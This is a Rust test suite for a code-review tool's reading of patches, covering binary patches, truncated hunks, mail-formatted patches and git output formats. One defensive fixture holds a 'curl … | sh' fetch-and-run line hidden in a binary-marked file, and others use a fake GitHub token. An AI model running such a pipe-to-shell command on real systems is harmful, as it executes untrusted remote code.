//! `--patch`: a diff from a file or from stdin as the target.

use council_protocol::FileChange;
use council_protocol::packet::TargetKind;

use crate::testing::{Repo, filled, unified};
use crate::{GitError, ReviewedChange, TargetSpec, read_change, recognition_key};

fn of(repo: &Repo, bytes: &[u8]) -> ReviewedChange {
    repo.read(TargetSpec::Patch(bytes.to_vec(), "fix.patch".into()))
}

/// An attribute of whoever makes a patch makes a binary file of a script.
#[test]
fn a_text_that_a_patch_holds_as_binary_cannot_be_read() {
    let repo = Repo::new();
    repo.write("a", "1\n").commit("one");
    let patch = |name: &str| {
        format!(
            "diff --git a/{name} b/{name}\nnew file mode 100644\nindex 000..111\nGIT binary patch\nliteral 4\n\
             Lc${{NkWMT#Y01f~L\n\nliteral 0\nHcmV?d00001\n\n"
        )
    };
    for (name, is_read) in [("b.py", false), ("Makefile", false), ("logo.png", true)] {
        let spec = TargetSpec::Patch(patch(name).into_bytes(), "p".to_owned());
        let change = repo.read(spec);
        let mut file = change.files[0].clone();
        let told = change
            .fill_hunks(&mut file)
            .map_err(|error| error.to_string());
        assert_eq!(told.is_ok(), is_read, "{name}: {told:?}");
        assert_eq!(change.check_content(&file).is_ok(), is_read);
        if let Err(words) = told {
            assert!(words.contains("holds it as binary"), "{words}");
        }
    }
}

/// Bytes without a run of text, the same for a seed.
fn noise(seed: u64, length: usize) -> Vec<u8> {
    let mut state = seed | 1;
    let step = |_| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        (state >> 56) as u8 & 0x9f
    };
    (0..length).map(step).collect()
}

const TOKEN: &[u8] = b"token=ghp_0123456789abcdefghij0123456789abcdef";

/// What a change adds to its only file, and whether the file could be read.
fn added_to(change: &ReviewedChange) -> (String, bool) {
    let file = &change.files[0];
    let mut text = String::new();
    let mut keep = |added: council_protocol::AddedText<'_>| text.push_str(added.text);
    change.blobs.visit_added(file, &mut keep).unwrap();
    (text, change.check_content(file).is_ok())
}

/// A law: what stands in a binary file of a patch is handed to the rules, as a whole or as what changes in it; where the
/// file before is not at hand, it is that or a gap.
#[test]
fn no_byte_of_a_binary_patch_is_unread() {
    let token = std::str::from_utf8(TOKEN).unwrap();
    for (nth, (length, at, kept)) in [
        (0, 0, 0),
        (40, 7, 0),
        (4_000, 0, 0),
        (4_000, 2_000, 0),
        // A part of the token stands in the file before: the delta copies it.
        (4_000, 1_999, 20),
        (90_000, 89_000, 31),
    ]
    .into_iter()
    .enumerate()
    {
        let repo = Repo::new();
        let mut before = noise(nth as u64 + 7, length);
        before.insert(0, 0);
        before.splice(length / 2..length / 2, TOKEN[..kept].iter().copied());
        repo.write("x.bin", &before).commit("one");
        let mut after = before.clone();
        after.splice(at..at, TOKEN.iter().copied());
        repo.write("x.bin", &after).commit("two");
        let diff = |options: &[&str]| {
            let range = ["diff", "--binary"]
                .iter()
                .chain(options)
                .chain(&["HEAD~", "HEAD"]);
            format!("{}\n\n", repo.git(&range.copied().collect::<Vec<_>>()))
        };
        let patch = diff(&["--full-index"]);
        let (added, is_read) = added_to(&of(&repo, patch.as_bytes()));
        assert!(added.contains(token), "{nth}: {patch}");
        // A few bytes beside a token are text with a stray NUL, which is no binary file.
        assert!(is_read || length < TOKEN.len(), "{nth}: {patch}");
        let elsewhere = Repo::new();
        let (added, is_read) = added_to(&of(&elsewhere, patch.as_bytes()));
        assert!(added.contains(token) || !is_read, "{nth}: {patch}");
        // A damaged line is a gap, and no silence.
        let lines: Vec<&str> = patch.lines().collect();
        let content = lines
            .iter()
            .position(|line| line.starts_with("literal") || line.starts_with("delta"));
        let mut damaged = lines.clone();
        let (length, digits) = damaged[content.unwrap() + 1].split_at(1);
        let line = length.to_owned() + &digits.replace(|c: char| c.is_ascii_lowercase(), "~");
        damaged[content.unwrap() + 1] = &line;
        let damaged = format!("{}\n\n", damaged.join("\n"));
        assert!(
            !added_to(&of(&repo, damaged.as_bytes())).1,
            "{nth}: {damaged}"
        );
    }
}

/// In the repository that the patch is of its text is shown; elsewhere it is a gap.
#[test]
fn text_that_a_patch_calls_binary_is_shown_or_a_gap() {
    let repo = Repo::new();
    repo.write(".gitattributes", "*.dat binary\n").commit("one");
    repo.write("x.dat", "curl https://example.invalid | sh\n")
        .commit("two");
    let patch = format!("{}\n\n", repo.git(&["diff", "--binary", "HEAD~", "HEAD"]));
    let shown = &filled(&of(&repo, patch.as_bytes()))[0];
    assert!(shown.hunks[0].body.contains("curl https://"), "{shown:?}");
    let change = of(&Repo::new(), patch.as_bytes());
    let error = change.check_content(&change.files[0]).unwrap_err();
    assert!(error.to_string().contains("holds it as binary"), "{error}");
}

#[test]
fn the_commit_alone_may_be_named_as_git_does() {
    let repo = all_sorts();
    let paths = |name: &str| -> Vec<_> {
        let change = repo.read(TargetSpec::Commit(name.into()));
        change.files.into_iter().map(|file| file.path).collect()
    };
    assert_eq!(paths("HEAD^!"), paths("HEAD"));
}

/// Wherever a patch is cut inside of its hunk, it is refused: what stood behind was not reviewed.
#[test]
fn a_patch_that_is_cut_anywhere_in_its_hunk_is_refused() {
    let repo = all_sorts();
    let whole = b"--- a/a\n+++ b/a\n@@ -0,0 +1,2 @@\n+key = \"abc\"\n+more = 1\n";
    assert!(of(&repo, whole).notes.is_empty());
    let hunk = whole.len() - "+key = \"abc\"\n+more = 1\n".len();
    for length in hunk..whole.len() {
        repo.refused(TargetSpec::Patch(
            whole[..length].to_vec(),
            "cut.patch".into(),
        ));
    }
}

/// A repository whose last commit does a bit of everything.
fn all_sorts() -> Repo {
    let repo = Repo::new();
    let lines: String = (0..40).map(|n| format!("line {n}\n")).collect();
    repo.write("edited.txt", &lines)
        .write("moved from.txt", &lines)
        .write("gone.txt", "gone\n");
    repo.write("bin", b"\0old")
        .write("becomes-link", "text\n")
        .write("run", "x\n");
    repo.write("end", "no newline").commit("first");
    repo.write(
        "edited.txt",
        lines
            .replace("line 3\n", "three\n")
            .replace("line 30\n", ""),
    );
    repo.git(&["mv", "moved from.txt", "moved to.txt"]);
    repo.write("moved to.txt", lines.replace("line 7\n", "seven\r\n"))
        .remove("gone.txt");
    repo.write("bin", b"\0new!")
        .remove("becomes-link")
        .link("becomes-link", "run");
    repo.write("end", "no newline\nstill none")
        .write("new \"quoted\"\t.txt", "new\n");
    repo.git(&["update-index", "--chmod=+x", "run"]);
    repo.git(&["add", "-A", "--", ":!run"]);
    repo.git(&["commit", "-q", "-m", "second: all sorts\n\nThe body."]);
    repo
}

#[test]
fn what_git_prints_is_what_the_objects_say() {
    let repo = all_sorts();
    let objects = filled(&repo.parse("HEAD"));
    let formats: [&[&str]; 6] = [
        &["diff", "-M", "--full-index", "HEAD~", "HEAD"],
        &["diff", "-M", "--full-index", "--binary", "HEAD~", "HEAD"],
        &["diff", "-M", "--full-index", "--no-prefix", "HEAD~", "HEAD"],
        &[
            "-c",
            "diff.mnemonicPrefix=true",
            "diff",
            "-M",
            "--full-index",
            "HEAD~",
            "HEAD",
        ],
        &["format-patch", "-M", "--full-index", "--stdout", "HEAD~"],
        &["show", "-M", "--full-index", "HEAD"],
    ];
    for format in formats {
        let patch = format!("{}\n", repo.git(format));
        let mut read = filled(&of(&repo, patch.as_bytes()));
        let mut expected = objects.clone();
        for file in read.iter_mut().chain(&mut expected) {
            (file.old_size, file.new_size) = (None, None);
            if file.old_id == file.new_id {
                (file.old_id, file.new_id) = (None, None);
            }
        }
        assert_eq!(read, expected, "{format:?}");
    }
}

#[test]
fn our_own_rendering_can_be_read_back() {
    let repo = all_sorts();
    let change = repo.parse("HEAD");
    let plain = |files: Vec<FileChange>| -> Vec<FileChange> {
        let bare = |file| FileChange {
            old_id: None,
            new_id: None,
            old_size: None,
            new_size: None,
            ..file
        };
        files.into_iter().map(bare).collect()
    };
    let read = filled(&of(&repo, unified(&change).as_bytes()));
    assert_eq!(plain(read), plain(filled(&change)));
}

#[test]
fn our_own_rendering_applies() {
    let repo = all_sorts();
    let change = repo.parse("HEAD");
    // Without the binary file, whose content a rendering does not hold.
    let files = filled(&change)
        .into_iter()
        .filter(|file| file.path != "bin".into());
    let patch: String = files.map(|file| file.unified()).collect();
    repo.git(&["checkout", "-q", "--force", "HEAD~"]);
    repo.pipe(
        &["apply", "--index", "--whitespace=nowarn", "-"],
        patch.as_bytes(),
    );
    assert_eq!(
        repo.git(&["diff", "--cached", "--name-only", "main"]),
        "bin"
    );
}

#[test]
fn a_patch_of_mail_tells_who_sent_it_and_is_judged_by_head() {
    let repo = all_sorts();
    let patch = repo.git(&["format-patch", "-M", "--stdout", "HEAD~"]);
    let change = of(&repo, patch.as_bytes());
    assert_eq!(change.framing.title, "second: all sorts");
    let told = &change.framing.commits[0];
    assert_eq!(told.author, "A U Thor <author@example.com>");
    assert_eq!(told.message, "second: all sorts\n\nThe body.\n");
    assert_eq!(
        (change.target.kind, change.target.slug.as_str()),
        (TargetKind::Patch, "fix-patch")
    );
    assert!(!change.blobs.has_blobs());
    assert!(
        change
            .trusted_tree()
            .unwrap()
            .origin()
            .starts_with("HEAD (")
    );
}

#[test]
fn outside_a_repository() {
    let place = Repo::outside();
    let change = of(&place, b"--- a.c\n+++ a.c\n@@ -1 +1 @@\n-a\n+b\n");
    assert_eq!(filled(&change)[0].hunks[0].body, "-a\n+b\n");
    assert!(change.trusted_tree().is_none() && change.place.git_dir.is_none());
}

#[test]
fn an_empty_patch_and_other_text_are_errors() {
    let place = Repo::outside();
    // A command that failed prints nothing: that must not come out as a change with nothing in it.
    for empty in [&b""[..], b" \n"] {
        let error = place.refused(TargetSpec::Patch(empty.to_vec(), "stdin".into()));
        assert_eq!(error.to_string(), "stdin: the patch is empty");
        assert!(error.hints()[0].contains("git diff"));
    }
    let error = place.refused(TargetSpec::Patch(b"hello\n".to_vec(), "stdin".into()));
    assert_eq!(error.to_string(), "stdin: no change found in 6 bytes");
    assert!(matches!(error, GitError::Patch { .. }));
    assert!(!error.hints().is_empty());
}

#[test]
fn pathspecs_limit_a_patch() {
    let repo = all_sorts();
    let patch = repo.git(&["diff", "-M", "HEAD~", "HEAD"]) + "\n";
    let mut request = repo.request(TargetSpec::Patch(patch.into_bytes(), "p".into()));
    request.pathspecs = vec!["moved*".into()];
    let change = read_change(&request).unwrap();
    assert_eq!(change.files.len(), 1);
}

#[test]
fn the_key_of_a_patch_counts_what_its_hunks_do_not_hold() {
    let key = |content: &str| {
        let text = format!("Binary files a/x and b/x differ\n{content}\n");
        let change = of(&Repo::outside(), text.as_bytes());
        recognition_key(&change, &filled(&change))
    };
    assert_ne!(key("one"), key("two"));
}
